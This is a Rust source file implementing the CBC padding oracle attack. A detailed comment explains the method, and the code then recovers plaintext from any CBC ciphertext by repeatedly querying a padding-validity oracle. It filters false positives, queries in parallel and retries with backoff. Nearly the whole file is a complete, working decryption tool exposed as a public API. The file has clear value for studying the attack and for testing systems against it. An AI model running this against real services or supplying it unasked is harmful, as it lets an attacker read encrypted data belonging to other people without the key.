// The CBC padding oracle attack.
//
// CBC decryption computes each plaintext block as
//
//                  P_k = D(C_k) ⊕ C_{k-1}.
//
// Call X = D(C_k) the intermediate value of C_k. If we send the oracle the
// two-block message F || C_k, with a previous block F that we choose, it
// decrypts to
//
//                  P'_k = X ⊕ F
//
// and tells us whether P'_k ends in valid padding. X depends only on the key
// and C_k, so once we know X we know P_k = X ⊕ C_{k-1} without ever touching
// the key.
//
// X is found one byte at a time, from the last byte to the first. To find
// X[15] we cycle F[15] through all 256 values until the oracle accepts; the
// padding is then (almost certainly) '\x01', so X[15] = F[15] ⊕ 0x01. For
// X[14] we set F[15] = X[15] ⊕ 0x02, forcing P'_k[15] to '\x02', and cycle
// F[14] until the padding '\x02\x02' is accepted, giving X[14] = F[14] ⊕ 0x02.
// The same step repeats with '\x03\x03\x03' and so on through the block.
//
// "Almost certainly" because an accepted guess can land on a longer padding
// by accident. If P'_k[14] happens to be '\x02', the guess giving
// P'_k[15] = '\x02' is accepted too. To weed these out, every hit (other than
// at byte 0) is re-queried with the byte just before the guessed one flipped.
// A genuine padding of the length being forged does not include that byte,
// so it stays valid; an accidental longer padding does, so it breaks.
//
// Every ciphertext block can be treated as its own two-block message, so the
// blocks are independent of each other and can be recovered in any order.
use log::{debug, info, trace, warn};
use rayon::prelude::*;

use crate::{pkcs7_unpad, AttackConfig, AttackError, PaddingOracle, BLOCK_SIZE};

type Block = [u8; BLOCK_SIZE];

pub struct PaddingOracleAttack<'a, O: PaddingOracle + ?Sized> {
    oracle: &'a O,
    config: AttackConfig,
}

impl<'a, O: PaddingOracle + ?Sized> PaddingOracleAttack<'a, O> {
    pub fn new(oracle: &'a O, config: AttackConfig) -> Self {
        Self { oracle, config }
    }

    /// Recover the unpadded plaintext of `ciphertext` (`IV || C_1 || ... || C_n`).
    pub fn attack(&self, ciphertext: &[u8]) -> Result<Vec<u8>, AttackError> {
        if ciphertext.len() % BLOCK_SIZE != 0 || ciphertext.len() < 2 * BLOCK_SIZE {
            return Err(AttackError::MalformedCiphertext {
                len: ciphertext.len(),
                block_size: BLOCK_SIZE,
            });
        }
        let blocks: Vec<Block> = ciphertext.chunks_exact(BLOCK_SIZE).map(to_block).collect();
        info!(
            "attacking {} ciphertext blocks (parallel: {})",
            blocks.len() - 1,
            self.config.parallel
        );

        // Final block first. Results come back in that same order.
        let recover = |block_idx: usize| {
            self.recover_block(block_idx, &blocks[block_idx - 1], &blocks[block_idx])
        };
        let recovered: Vec<Block> = if self.config.parallel {
            (1..blocks.len())
                .into_par_iter()
                .rev()
                .map(recover)
                .collect::<Result<_, _>>()?
        } else {
            (1..blocks.len())
                .rev()
                .map(recover)
                .collect::<Result<_, _>>()?
        };

        let mut plaintext: Vec<u8> = recovered.into_iter().rev().flatten().collect();
        pkcs7_unpad(&mut plaintext, BLOCK_SIZE as u8)
            .map_err(|_| AttackError::PaddingInvalidAfterRecovery)?;
        info!("recovered {} plaintext bytes", plaintext.len());
        Ok(plaintext)
    }

    /// Recover the plaintext of `target`, given the block that precedes it.
    fn recover_block(
        &self,
        block_idx: usize,
        previous: &Block,
        target: &Block,
    ) -> Result<Block, AttackError> {
        let mut intermediate = [0u8; BLOCK_SIZE];
        let mut plaintext = [0u8; BLOCK_SIZE];
        for position in (0..BLOCK_SIZE).rev() {
            let padding_len = (BLOCK_SIZE - position) as u8;
            let forged_byte =
                self.resolve_byte(block_idx, position, previous, target, &intermediate)?;
            intermediate[position] = forged_byte ^ padding_len;
            plaintext[position] = previous[position] ^ intermediate[position];
            debug!(
                "block {block_idx} byte {position}: intermediate {:#04x}, plaintext {:#04x}",
                intermediate[position], plaintext[position]
            );
        }
        info!("recovered block {block_idx}");
        Ok(plaintext)
    }

    /// Find the value of the forged previous block's byte at `position` that
    /// makes the oracle accept a padding of length `BLOCK_SIZE - position`.
    ///
    /// `intermediate` must be resolved for every index after `position`.
    fn resolve_byte(
        &self,
        block_idx: usize,
        position: usize,
        previous: &Block,
        target: &Block,
        intermediate: &Block,
    ) -> Result<u8, AttackError> {
        let padding_len = (BLOCK_SIZE - position) as u8;
        let mut template = [0u8; 2 * BLOCK_SIZE];
        template[..position].copy_from_slice(&previous[..position]);
        for idx in (position + 1)..BLOCK_SIZE {
            template[idx] = intermediate[idx] ^ padding_len;
        }
        template[BLOCK_SIZE..].copy_from_slice(target);

        let try_guess = |guess: u8| -> Option<Result<u8, AttackError>> {
            let mut forged = template;
            forged[position] = guess ^ previous[position];
            match self.is_accepted_hit(block_idx, position, forged) {
                Ok(true) => Some(Ok(forged[position])),
                Ok(false) => None,
                Err(err) => Some(Err(err)),
            }
        };
        let found = if self.config.parallel {
            (0..=u8::MAX).into_par_iter().find_map_first(&try_guess)
        } else {
            (0..=u8::MAX).find_map(&try_guess)
        };

        found.unwrap_or(Err(AttackError::OracleExhausted {
            block: block_idx,
            position,
        }))
    }

    fn is_accepted_hit(
        &self,
        block_idx: usize,
        position: usize,
        mut forged: [u8; 2 * BLOCK_SIZE],
    ) -> Result<bool, AttackError> {
        if !self.query(block_idx, position, &forged)? {
            return Ok(false);
        }
        if position == 0 {
            return Ok(true);
        }
        forged[position - 1] ^= 1;
        let still_valid = self.query(block_idx, position, &forged)?;
        if !still_valid {
            trace!(
                "block {block_idx} byte {position}: rejected accidental padding with forged byte {:#04x}",
                forged[position]
            );
        }
        Ok(still_valid)
    }

    /// Query the oracle, retrying transport failures with exponential backoff.
    fn query(&self, block_idx: usize, position: usize, data: &[u8]) -> Result<bool, AttackError> {
        let mut attempt = 0u32;
        loop {
            match self.oracle.query_padding_valid(data) {
                Ok(valid) => return Ok(valid),
                Err(err) if attempt < self.config.max_retries => {
                    let delay = self
                        .config
                        .retry_backoff
                        .saturating_mul(2u32.saturating_pow(attempt));
                    warn!(
                        "block {block_idx} byte {position}: {err}, retrying in {delay:?} ({}/{})",
                        attempt + 1,
                        self.config.max_retries
                    );
                    std::thread::sleep(delay);
                    attempt += 1;
                }
                Err(err) => {
                    return Err(AttackError::OracleUnavailable {
                        block: block_idx,
                        position,
                        attempts: attempt + 1,
                        source: err,
                    })
                }
            }
        }
    }
}

/// Recover the plaintext of `ciphertext` using the default [`AttackConfig`].
pub fn cbc_padding_oracle_attack<O: PaddingOracle + ?Sized>(
    ciphertext: &[u8],
    oracle: &O,
) -> Result<Vec<u8>, AttackError> {
    PaddingOracleAttack::new(oracle, AttackConfig::default()).attack(ciphertext)
}

fn to_block(bytes: &[u8]) -> Block {
    let mut block = [0u8; BLOCK_SIZE];
    block.copy_from_slice(bytes);
    block
}
